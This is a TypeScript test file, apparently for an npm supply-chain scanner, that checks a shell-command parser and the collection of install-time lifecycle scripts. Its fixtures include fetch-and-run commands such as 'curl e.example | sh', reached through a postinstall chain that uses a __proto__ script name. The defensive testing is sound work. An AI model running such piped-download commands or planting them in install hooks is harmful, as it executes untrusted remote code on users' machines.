import { test } from 'node:test';
import assert from 'node:assert/strict';
import { commandProper, MAX_COMMAND_CHARS, npmInstallTimeScripts, shellCommands } from './index.ts';

test('shell commands: operators, quotes, escapes, substitutions, comments and assignments', () => {
  assert.deepEqual(shellCommands(`A=1 B='x y' node "set up.js" && npm run build || (sh -c 'echo "$(id)"'); echo \\"a b\\" # c; d`), [
    ['node', 'set up.js'],
    ['npm', 'run', 'build'],
    ['sh', '-c', 'echo "$(id)"'],
    ['echo', '"a', 'b"'],
  ]);
  assert.deepEqual(shellCommands('curl x|sh\nnode $(echo y.js) `z`'), [['curl', 'x'], ['sh'], ['node'], ['echo', 'y.js'], ['z']]);
  assert.deepEqual(shellCommands("node 'unterminated"), [['node', 'unterminated']]);
  assert.deepEqual(commandProper(['cross-env', 'NODE_ENV=production', 'node', 'x.js']), ['node', 'x.js']);
  assert.deepEqual(commandProper(['env', '-i', '--', 'node', 'x.js']), ['node', 'x.js']);
  // Bounded: a line past the cap is read up to it.
  assert.equal(shellCommands('a '.repeat(3_000_000)).flat().length, MAX_COMMAND_CHARS / 2);
});

test('install-time scripts: the lifecycle scripts and every script they run by name, with its pre and post', () => {
  const scripts = {
    postinstall: 'npm run setup && yarn compile && pnpm run fetch --silent && run-s "gen:*" && npm test',
    presetup: 'node pre.js',
    setup: 'node setup.js && npm run-script deeper',
    postsetup: 'echo done',
    deeper: 'sh deeper.sh',
    compile: 'tsc',
    fetch: 'node fetch.js',
    'gen:a': 'node a.js',
    'gen:b': 'node b.js',
    'gen:x:y': 'not matched by a single star',
    test: 'jest',
    build: 'never run at install',
    prepare: 'npm run build',
    install: '',
    other: 42,
  };
  assert.deepEqual(Object.keys(npmInstallTimeScripts(scripts)), ['postinstall', 'presetup', 'setup', 'postsetup', 'compile', 'fetch', 'gen:a', 'gen:b', 'test', 'deeper']);
  // Loops end; other packages' scripts (`--prefix`) and builtins are not followed.
  assert.deepEqual(Object.keys(npmInstallTimeScripts({ install: 'npm run a', a: 'npm run install' })), ['install', 'a']);
  assert.deepEqual(Object.keys(npmInstallTimeScripts({ install: 'npm --prefix sub run a && yarn install && pnpm add x', a: 'x', add: 'y' })), ['install']);
  for (const junk of [null, 'x', [], 42]) assert.deepEqual(npmInstallTimeScripts(junk), {});
  // A script named __proto__ is a script: npm runs it by name, so it is kept and followed (set on
  // an object, that key was dropped, and with it the payload).
  const proto = npmInstallTimeScripts(JSON.parse('{"postinstall": "npm run __proto__", "__proto__": "npm run x", "x": "curl e.example | sh"}'));
  assert.deepEqual(Object.entries(proto), [['postinstall', 'npm run __proto__'], ['__proto__', 'npm run x'], ['x', 'curl e.example | sh']]);
  // Globs: `*` stays within a `:` segment, `**` crosses them; hostile ones stay cheap.
  const globbed = { postinstall: 'run-p "a:**" "b:*:c" c*', 'a:x:y': '1', 'b:q:c': '2', 'b:q:r:c': '3', cat: '4', 'c:d': '5' };
  assert.deepEqual(Object.keys(npmInstallTimeScripts(globbed)), ['postinstall', 'a:x:y', 'b:q:c', 'cat']);
  const names: Record<string, string> = { postinstall: `run-s ${'"*a*a*a*a*a*a*a*a*a*a*a*a*a*a*a*b" '.repeat(100)}` };
  for (let i = 0; i < 5000; i++) names[`${'a'.repeat(100)}${i}`] = 'x';
  // (A backtracking matcher would not finish this in the test's lifetime.)
  assert.deepEqual(Object.keys(npmInstallTimeScripts(names)), ['postinstall']);
  // Bounded: a chain of thousands of scripts stops at 64.
  const chain: Record<string, string> = { postinstall: 'npm run s0' };
  for (let i = 0; i < 5000; i++) chain[`s${i}`] = `npm run s${i + 1}`;
  assert.equal(Object.keys(npmInstallTimeScripts(chain)).length, 64);
});
